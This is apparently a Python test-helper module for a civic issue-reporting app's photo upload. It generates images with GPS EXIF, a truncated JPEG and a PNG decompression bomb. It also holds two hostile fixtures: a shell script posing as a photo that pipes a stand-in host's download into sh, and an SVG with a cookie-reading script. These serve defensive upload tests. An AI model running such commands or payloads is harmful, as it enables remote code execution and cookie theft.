"""Images made in the test (never downloaded), hostile files, and an app with a media folder per test."""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import httpx
from PIL import Image

from komunikator.engine.media.storage import LocalStorage
from komunikator.engine.service import accounts
from komunikator.engine.settings import Settings
from komunikator.engine.store.scope import TenantScope, ensure_tenant
from komunikator.engine.tenants import TenantRegistry
from komunikator.web.app import create_app

GPS_IFD = 34853  # the GPSInfo tag
ORIENTATION = 0x0112
MAKE = 0x010F

#: A shell script that calls itself a photo.
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
#: An SVG with a script: an image format that is also a document (XSS), never accepted.
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>')


def noisy(size: tuple[int, int] = (640, 480)) -> Image.Image:
    """A photo-like RGB image (noise compresses badly, so truncating it cuts real data)."""
    return Image.merge("RGB", [Image.effect_noise(size, 60 + 20 * i) for i in range(3)])


def encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def gps_exif(orientation: int | None = None) -> Image.Exif:
    """EXIF with a camera make and a GPS position in Zgierz (and an orientation, if given)."""
    exif = Image.Exif()
    exif[MAKE] = "PhoneCam"
    exif[GPS_IFD] = {1: "N", 2: (51.0, 51.0, 18.5), 3: "E", 4: (19.0, 24.0, 21.6)}
    if orientation is not None:
        exif[ORIENTATION] = orientation
    return exif


def jpeg(size: tuple[int, int] = (640, 480), **params: Any) -> bytes:
    """A JPEG photo."""
    return encode(noisy(size), "JPEG", quality=90, **params)


def jpeg_with_gps(size: tuple[int, int] = (640, 480), orientation: int | None = None) -> bytes:
    """A JPEG carrying GPS EXIF, an XMP packet and a comment (all of which must go)."""
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
    return jpeg(size, exif=gps_exif(orientation), xmp=xmp, comment=b"Jan Kowalski, ul. Dubois 1")


def truncated_jpeg() -> bytes:
    """The first half of a JPEG."""
    data = jpeg((400, 300))
    return data[: len(data) // 2]


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A tiny PNG whose header declares `width`×`height` pixels (no real pixel data behind it)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + chunk(b"IEND", b""))


def exif_of(data: bytes) -> dict[int, Any]:
    """The EXIF tags of an image (empty if none)."""
    with Image.open(io.BytesIO(data)) as image:
        return dict(image.getexif())


def gps_of(data: bytes) -> dict[int, Any]:
    """The GPS IFD of an image (empty if none)."""
    with Image.open(io.BytesIO(data)) as image:
        return dict(image.getexif().get_ifd(GPS_IFD))


def info_of(data: bytes) -> tuple[str | None, tuple[int, int], dict[str, Any]]:
    """Format, size and `info` of an image."""
    with Image.open(io.BytesIO(data)) as image:
        return image.format, image.size, dict(image.info)


# -- the app --------------------------------------------------------------------------------------


@cache
def registry() -> TenantRegistry:
    """The shipped tenants, compiled once per session."""
    return TenantRegistry.load(Settings.from_env())


@dataclass
class MediaApi:
    """The app on the test database, photos stored under a temporary folder."""

    app: Any
    storage: LocalStorage
    clients: dict[str, httpx.AsyncClient]

    def client(self, slug: str) -> httpx.AsyncClient:
        return self.clients[slug]

    async def staff(self, slug: str, email: str, *memberships: str) -> dict[str, str]:
        """A staff member with memberships `unit:role`; their auth header."""
        tenant = registry().tenants[slug]
        scope = TenantScope((await ensure_tenant(slug)).id)
        user = await accounts.create_user(scope, email, email.split("@")[0], password=None)
        for membership in memberships:
            unit, role = membership.split(":")
            await accounts.grant(scope, tenant, user, unit, role)
        raw, _ = await accounts.create_token(scope, user, "tests")
        return {"Authorization": f"Bearer {raw}"}

    def files(self) -> list[Path]:
        """Every file under the media folder (stray temporary files included)."""
        return sorted(p for p in self.storage.root.rglob("*") if p.is_file())


def make_media_api(media_dir: Path) -> MediaApi:
    """The app with a client per tenant, storing photos under `media_dir`."""
    app = create_app(registry(), init_database=False, clock=lambda: datetime(2026, 12, 1, 9, 0, tzinfo=UTC))
    storage = LocalStorage(media_dir)
    app.state.media_storage = storage
    clients = {
        slug: httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test",
                                headers={"Host": f"{slug}.localhost"})
        for slug in registry().tenants
    }
    return MediaApi(app, storage, clients)


def report(category: str = "pothole", **extra: Any) -> dict[str, Any]:
    """A valid report in Zgierz."""
    body: dict[str, Any] = {"category": category, "description": "Dziura przy przystanku", "lat": 51.855,
                            "lon": 19.406, "reporter": {"name": "Jan Kowalski", "email": "jan@example.pl"}}
    if category == "pothole":
        body["attributes"] = {"size": "medium"}
    body.update(extra)
    return body
